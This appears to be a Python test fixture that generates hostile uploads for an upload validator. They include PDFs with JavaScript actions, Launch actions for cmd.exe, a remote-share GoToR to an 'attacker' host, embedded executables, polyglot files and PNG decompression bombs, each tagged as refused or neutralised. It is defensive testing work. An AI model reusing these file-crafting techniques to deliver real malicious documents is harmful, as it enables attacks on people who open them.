"""A corpus of hostile uploads, built on the fly with pikepdf, Pillow and bytes; nothing binary is committed.

Each class is a name, its bytes, and what must happen: "refused" (with the API code) or "neutralised" (stored,
with the dangerous part gone from the stored file).
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from zhicheng.materials.tests import files

JS = "app.alert('pwned'); this.exportDataObject({cName: 'evil.exe', nLaunch: 2});"
JS_MARK = b"pwned"


@dataclass(frozen=True)
class Hostile:
    name: str
    build: Callable[[], bytes]
    code: str | None = None  # the refusal's code; None: accepted once neutralised
    filename: str = "材料.pdf"


def _pdf(change: Callable[[pikepdf.Pdf], None] | None = None) -> bytes:
    """A one-page PDF made by pikepdf, changed by `change` before it is saved."""
    pdf = pikepdf.open(io.BytesIO(files.pdf_bytes()))
    if change is not None:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _js_action(pdf: pikepdf.Pdf) -> pikepdf.Object:
    return pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(JS))
    )


def _action(kind: str, **entries: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name("/" + kind), **entries)


def _add_annotation(pdf: pikepdf.Pdf, annotation: pikepdf.Dictionary) -> None:
    page = pdf.pages[0].obj
    annotation.Rect = pikepdf.Array([10, 10, 100, 100])
    annotation.Type = pikepdf.Name.Annot
    annots = page.get("/Annots", pikepdf.Array())
    annots.append(pdf.make_indirect(annotation))
    page.Annots = annots


def _link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> None:
    _add_annotation(pdf, pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=action))


def _embedded_file(pdf: pikepdf.Pdf) -> pikepdf.Object:
    stream = pdf.make_stream(files.EXE)
    stream.Type = pikepdf.Name.EmbeddedFile
    return pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("evil.exe"), EF=pikepdf.Dictionary(F=stream))


def open_action_js(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _js_action(pdf)


def names_javascript(pdf: pikepdf.Pdf) -> None:
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), _js_action(pdf)]))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def document_aa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AA = pikepdf.Dictionary(WC=_js_action(pdf), DP=_js_action(pdf))


def page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=_js_action(pdf))


def annotation_aa(pdf: pikepdf.Pdf) -> None:
    _add_annotation(
        pdf,
        pikepdf.Dictionary(
            Subtype=pikepdf.Name.Link,
            A=_action("GoTo", D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])),
            AA=pikepdf.Dictionary(E=_js_action(pdf)),
        ),
    )


def launch(pdf: pikepdf.Pdf) -> None:
    _link(pdf, _action("Launch", F=pikepdf.String("cmd.exe"), Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe"))))


def goto_remote(pdf: pikepdf.Pdf) -> None:
    _link(pdf, _action("GoToR", F=pikepdf.String("\\\\attacker\\share\\x.pdf"), D=pikepdf.Array([0, pikepdf.Name.Fit])))


def submit_form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = _action(
        "SubmitForm", F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F=pikepdf.String("http://x/"))
    )


def import_data(pdf: pikepdf.Pdf) -> None:
    _link(pdf, _action("ImportData", F=pikepdf.String("evil.fdf")))


def uri_javascript(pdf: pikepdf.Pdf) -> None:
    _link(pdf, _action("URI", URI=pikepdf.String("javascript:alert('pwned')")))


def embedded_files(pdf: pikepdf.Pdf) -> None:
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("evil.exe"), _embedded_file(pdf)]))
    pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=tree)


def file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    _add_annotation(pdf, pikepdf.Dictionary(Subtype=pikepdf.Name.FileAttachment, FS=_embedded_file(pdf)))


def xfa_form(pdf: pikepdf.Pdf) -> None:
    widget = pikepdf.Dictionary(
        Subtype=pikepdf.Name.Widget,
        FT=pikepdf.Name.Tx,
        T=pikepdf.String("name"),
        AA=pikepdf.Dictionary(K=_js_action(pdf)),
    )
    _add_annotation(pdf, widget)
    xfa = pdf.make_stream(b"<xdp:xdp><script>app.alert('pwned')</script></xdp:xdp>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([pdf.pages[0].obj.Annots[0]]), XFA=xfa)


def rich_media(pdf: pikepdf.Pdf) -> None:
    content = pikepdf.Dictionary(
        Assets=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a.swf"), _embedded_file(pdf)]))
    )
    _add_annotation(pdf, pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia, RichMediaContent=content))


def three_d(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"U3D" + JS_MARK)
    stream.Subtype = pikepdf.Name.U3D
    _add_annotation(pdf, pikepdf.Dictionary(Subtype=pikepdf.Name("/3D"), **{"/3DD": stream}))


def outline_javascript(pdf: pikepdf.Pdf) -> None:
    item = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("封面"), A=_js_action(pdf)))
    outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines


def action_chain(pdf: pikepdf.Pdf) -> None:
    first = _action("GoTo", D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]), Next=_js_action(pdf))
    pdf.Root.OpenAction = first


def orphan_javascript() -> bytes:
    """A script object that nothing references (pikepdf would not write one): only a scanner reading every object
    finds it, and a reader that repairs the file may pick it up."""
    writer = IncrementalPdfFileWriter(io.BytesIO(_pdf()))
    writer.add_object(_js_dictionary())
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _js_dictionary() -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {
            generic.NameObject("/S"): generic.NameObject("/JavaScript"),
            generic.NameObject("/JS"): generic.TextStringObject(JS),
        }
    )


def incremental_update() -> bytes:
    """A clean file, then an appended update that adds an OpenAction (what a later tool or attacker appends)."""
    original = _pdf()
    writer = IncrementalPdfFileWriter(io.BytesIO(original))
    writer.root[generic.NameObject("/OpenAction")] = writer.add_object(_js_dictionary())
    writer.update_root()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def trailing_script() -> bytes:
    """A clean PDF with a page of HTML after its end, as a browser sniffing the whole body might run."""
    return _pdf() + b"<script>alert('pwned')</script>\n%%EOF\n"


def encrypted() -> bytes:
    out = io.BytesIO()
    pikepdf.open(io.BytesIO(files.pdf_bytes())).save(out, encryption=pikepdf.Encryption(user="1234", owner="5678"))
    return out.getvalue()


def encrypted_without_password() -> bytes:
    out = io.BytesIO()
    pikepdf.open(io.BytesIO(files.pdf_bytes())).save(out, encryption=pikepdf.Encryption(user="", owner="5678"))
    return out.getvalue()


def html_before_pdf() -> bytes:
    return b"<html><body><script>alert('pwned')</script></body></html>\n" + _pdf()


def html_after_header() -> bytes:
    return _pdf().replace(b"\n", b"\n%<html><script>alert('pwned')</script>\n", 1)


def exe_before_pdf() -> bytes:
    return files.EXE + b"\n" + _pdf()


def pdf_header_late() -> bytes:
    return b" " * 600 + _pdf()


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("evil.html", "<script>alert('pwned')</script>")
    return out.getvalue()


def pdf_zip() -> bytes:
    return _pdf() + _zip()


def garbage_pdf() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"


def deep_nesting() -> bytes:
    body = b"[" * 5000 + b"]" * 5000
    return _pdf().replace(b"%%EOF", b"%%EOF\n9999 0 obj\n" + body + b"\nendobj\n%%EOF", 1)


def gifar() -> bytes:
    return files.jpeg_bytes() + _zip()


def jpeg_with_html_comment() -> bytes:
    data = files.jpeg_bytes()
    comment = b"<html><script>alert('pwned')</script></html>"
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + data[2:]


def png_with_pdf_inside() -> bytes:
    return files.png_bytes(text="%PDF-1.7 1 0 obj << /OpenAction << /S /JavaScript >> >>")


def png_bomb() -> bytes:
    """The issue's case: a few hundred kilobytes that decode to 7000 × 7000 pixels (49 MP)."""
    out = io.BytesIO()
    Image.new("RGB", (7000, 7000), (255, 255, 255)).save(out, "PNG")
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header claims a size and whose pixel data is nonsense: only a header check refuses it as large."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        files.PNG_SIGNATURE + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", b"\0" * 64) + _png_chunk(b"IEND", b"")
    )


def jpeg_header_claims(width: int, height: int) -> bytes:
    """A small JPEG whose frame header is rewritten to claim another size."""
    data = bytearray(files.jpeg_bytes((16, 16)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def png_huge_iccp() -> bytes:
    profile = b"bomb\0\0" + zlib.compress(b"\0" * (200 * 1024 * 1024), 9)  # 200 MB once inflated
    data = files.png_bytes()
    iend = data.rindex(b"IEND") - 4
    ihdr_end = 8 + 25
    return data[:ihdr_end] + _png_chunk(b"iCCP", profile) + data[ihdr_end:iend] + data[iend:]


def png_huge_text() -> bytes:
    data = files.png_bytes()
    ihdr_end = 8 + 25
    return data[:ihdr_end] + _png_chunk(b"tEXt", b"Comment\0" + b"A" * (2 * 1024 * 1024)) + data[ihdr_end:]


def png_ztxt_bomb() -> bytes:
    data = files.png_bytes()
    ihdr_end = 8 + 25
    text = b"Comment\0\0" + zlib.compress(b"pwned" * (20 * 1024 * 1024), 9)  # 100 MB once inflated
    return data[:ihdr_end] + _png_chunk(b"zTXt", text) + data[ihdr_end:]


def apng() -> bytes:
    frames = [Image.new("RGB", (64, 64), (n * 20, 0, 0)) for n in range(5)]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def animated_gif() -> bytes:
    frames = [Image.new("P", (64, 64), n) for n in range(5)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], loop=0)
    return out.getvalue()


def _image(format_: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 64)).save(out, format_)
    return out.getvalue()


def png_long_side() -> bytes:
    out = io.BytesIO()
    Image.new("1", (30000, 2)).save(out, "PNG")
    return out.getvalue()


def png_with_metadata() -> bytes:
    info = PngInfo()
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>" + "pwned" * 1000 + "</x:xmpmeta>")
    out = io.BytesIO()
    Image.new("RGB", (64, 64)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("pwned")</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert('pwned')</script></body></html>"

NEUTRALISED_PDFS = [
    Hostile("pdf_open_action_javascript", lambda: _pdf(open_action_js)),
    Hostile("pdf_names_tree_javascript", lambda: _pdf(names_javascript)),
    Hostile("pdf_document_additional_actions", lambda: _pdf(document_aa)),
    Hostile("pdf_page_additional_actions", lambda: _pdf(page_aa)),
    Hostile("pdf_annotation_additional_actions", lambda: _pdf(annotation_aa)),
    Hostile("pdf_launch_action", lambda: _pdf(launch)),
    Hostile("pdf_goto_remote_action", lambda: _pdf(goto_remote)),
    Hostile("pdf_submit_form_action", lambda: _pdf(submit_form)),
    Hostile("pdf_import_data_action", lambda: _pdf(import_data)),
    Hostile("pdf_uri_with_javascript", lambda: _pdf(uri_javascript)),
    Hostile("pdf_embedded_executable", lambda: _pdf(embedded_files)),
    Hostile("pdf_file_attachment_annotation", lambda: _pdf(file_attachment_annotation)),
    Hostile("pdf_xfa_acroform_with_field_script", lambda: _pdf(xfa_form)),
    Hostile("pdf_rich_media_annotation", lambda: _pdf(rich_media)),
    Hostile("pdf_3d_annotation", lambda: _pdf(three_d)),
    Hostile("pdf_outline_javascript", lambda: _pdf(outline_javascript)),
    Hostile("pdf_goto_with_next_javascript", lambda: _pdf(action_chain)),
    Hostile("pdf_unreferenced_javascript_object", orphan_javascript),
    Hostile("pdf_incremental_update_adding_javascript", incremental_update),
    Hostile("pdf_script_after_eof", trailing_script),
]

REFUSED = [
    Hostile("pdf_encrypted_with_password", encrypted, "encrypted_pdf"),
    Hostile("pdf_encrypted_without_password", encrypted_without_password, "encrypted_pdf"),
    Hostile("pdf_html_before_header", html_before_pdf, "polyglot"),
    Hostile("pdf_html_in_first_kilobyte", html_after_header, "polyglot"),
    Hostile("pdf_executable_before_header", exe_before_pdf, "polyglot"),
    Hostile("pdf_header_not_at_offset_0", pdf_header_late, "polyglot"),
    Hostile("pdf_with_zip_appended", pdf_zip, "polyglot"),
    Hostile("pdf_beyond_repair", garbage_pdf, "bad_pdf"),
    Hostile("jpeg_with_zip_appended_gifar", gifar, "polyglot", "照片.jpg"),
    Hostile("jpeg_with_html_comment", jpeg_with_html_comment, "polyglot", "照片.jpg"),
    Hostile("png_with_pdf_in_first_kilobyte", png_with_pdf_inside, "polyglot", "图.png"),
    Hostile("png_decompression_bomb_7000x7000", png_bomb, "png_too_large", "图.png"),
    Hostile("png_header_claims_60000x60000", lambda: png_header_only(60000, 60000), "image_too_large", "图.png"),
    Hostile("jpeg_header_claims_60000x60000", lambda: jpeg_header_claims(60000, 60000), "image_too_large", "照片.jpg"),
    Hostile("png_30000_pixels_long", png_long_side, "image_too_large", "图.png"),
    Hostile("png_200mb_iccp_profile", png_huge_iccp, "image_metadata", "图.png"),
    Hostile("png_ztxt_inflating_to_100mb", png_ztxt_bomb, "image_metadata", "图.png"),
    Hostile("png_2mb_text_chunk", png_huge_text, "image_metadata", "图.png"),
    Hostile("png_animated_apng", apng, "animated_image", "图.png"),
    Hostile("gif_animated", animated_gif, "unsupported_type", "图.gif"),
    Hostile("tiff", lambda: _image("TIFF"), "unsupported_type", "图.tif"),
    Hostile("webp", lambda: _image("WEBP"), "unsupported_type", "图.webp"),
    Hostile("svg_with_script", lambda: SVG, "unsupported_type", "图.svg"),
    Hostile("html_named_pdf", lambda: HTML, "unsupported_type"),
    Hostile("executable_named_jpg", lambda: files.EXE, "unsupported_type", "照片.jpg"),
]

NEUTRALISED_OTHER = [
    Hostile("png_with_xmp_metadata", png_with_metadata, None, "图.png"),
    Hostile("pdf_nested_5000_deep_after_eof", deep_nesting),
]
